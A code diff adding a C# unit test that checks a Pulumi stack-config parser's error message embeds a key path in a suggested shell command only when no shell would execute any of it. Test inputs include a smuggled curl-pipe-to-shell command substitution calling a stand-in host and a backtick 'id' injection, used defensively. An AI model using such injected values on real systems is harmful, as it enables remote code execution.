@@ -49,6 +49,19 @@ public sealed class SecureValueTests : IDisposable
         ConfigRefusal.AssertRefusedAt(R2WithSecureKeys(path), path, message);
     }
 
+    /// <summary>The key path is the file's text: a command to paste carries it only where no shell would run any of it.</summary>
+    [Theory]
+    [InlineData("tags.team", "with `pulumi config set --path 'tags.team' <value>`.")]
+    [InlineData("tags['$(curl -s e.vil|sh)']", "with `pulumi config set --path` and the key path named here.")]
+    [InlineData("tags[\"a`id`\"]", "with `pulumi config set --path` and the key path named here.")]
+    public void The_fix_for_a_secure_value_that_is_not_a_secret_names_its_path_in_a_command_only_when_a_shell_reads_nothing_in_it(string path, string command)
+    {
+        var error = Assert.Throws<StackConfigException>(() => StackConfigParser.Parse(R2WithSecureKeys(path)));
+
+        var problem = Assert.Single(error.Problems);
+        Assert.EndsWith($"is held as a secure value, but it is not a secret: set it in plain text {command}", problem.Message, StringComparison.Ordinal);
+    }
+
     [Fact]
     public void A_stack_file_marks_each_secure_value_by_its_path_and_refuses_a_secure_bucket()
     {
